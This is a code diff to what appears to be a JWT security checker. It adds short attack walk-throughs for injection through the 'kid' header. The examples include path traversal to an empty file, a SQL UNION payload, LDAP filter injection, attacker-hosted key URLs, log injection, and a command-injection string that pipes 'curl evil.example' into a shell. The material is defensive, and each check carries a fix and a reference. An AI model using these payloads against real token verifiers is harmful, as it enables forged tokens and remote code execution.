@@ -25,6 +25,13 @@ def _kid(case: Case) -> str:
     " content they know.",
     fix="Look “kid” up in a fixed table of keys.",
     reference=rfc(8725, "3.10"),
+    steps=(
+        "The server opens “keys/” + kid and takes what is in the file for the secret.",
+        "An attacker writes “../../../../dev/null”, whose content is empty, or a style"
+        " sheet that anybody can read.",
+        "They sign by HS256 with that content, and the token is accepted.",
+    ),
+    recipe="keys-by-kid",
     silences_here=("kid-control",),
 )
 def path_traversal(case: Case) -> Iterator[Evidence]:
@@ -45,6 +52,13 @@ def _path_traversal() -> samples.Question:
     why="If “kid” is put into a query, the attacker makes it return a key of their own.",
     fix="Bind parameters, and look up exact names.",
     reference=rfc(8725, "3.10"),
+    steps=(
+        "The server runs SELECT key FROM keys WHERE id = '<kid>', with the value pasted in.",
+        "An attacker writes x' UNION SELECT 'mine'-- and so makes the query return a"
+        " secret of their choice.",
+        "They sign with that secret, and the token is accepted.",
+    ),
+    recipe="keys-by-kid",
 )
 def sql(case: Case) -> Iterator[Evidence]:
     kid = _kid(case)
@@ -64,6 +78,12 @@ def _sql() -> samples.Question:
     why="If “kid” reaches a shell, or an open() that runs commands, code runs on your server.",
     fix="Accept a short alphabet of letters, digits, “-” and “_” only.",
     reference="RFC 8725 §3.10, CWE-78",
+    steps=(
+        "The server hands “kid” to a shell, or to an open() that runs a command after “|”.",
+        "An attacker appends one, such as “; curl evil.example | sh”.",
+        "It runs before any signature was checked.",
+    ),
+    recipe="keys-by-kid",
 )
 def command(case: Case) -> Iterator[Evidence]:
     kid = _kid(case)
@@ -83,6 +103,12 @@ def _command() -> samples.Question:
     why="If “kid” is put into a filter, it matches another entry than the one that was meant.",
     fix="Escape the value (RFC 4515), or look up exact names.",
     reference=rfc(8725, "3.10"),
+    steps=(
+        "The server looks the key up with the filter (&(objectClass=key)(uid=<kid>)).",
+        "An attacker writes “*)(uid=*”, and the filter matches the first entry there is.",
+        "The token is checked with a key that the attacker may know.",
+    ),
+    recipe="keys-by-kid",
     silences_here=("kid-command",),
 )
 def ldap(case: Case) -> Iterator[Evidence]:
@@ -104,6 +130,12 @@ def _ldap() -> samples.Question:
     " address.",
     fix="Use opaque names, and never fetch anything by “kid”.",
     reference=rfc(8725, "3.10"),
+    steps=(
+        "A verifier sees that “kid” is an address, and fetches the key from there.",
+        "An attacker’s token names an address of the attacker, where their own public key is.",
+        "The signature fits it, and the token is accepted.",
+    ),
+    recipe="keys-by-kid",
 )
 def url(case: Case) -> Iterator[Evidence]:
     kid = _kid(case)
@@ -123,6 +155,13 @@ def _url() -> samples.Question:
     why="They split log lines, and hide from people what is really compared.",
     fix="Accept printable ASCII only.",
     reference="CWE-117",
+    steps=(
+        "A server logs the “kid” of tokens that it refuses, as it came.",
+        "With a line feed in it an attacker writes log lines of their own; with U+202E"
+        " the text reads backwards.",
+        "Who reads the log, or compares two names by eye, is misled.",
+    ),
+    recipe="keys-by-kid",
 )
 def control(case: Case) -> Iterator[Evidence]:
     kid = _kid(case)
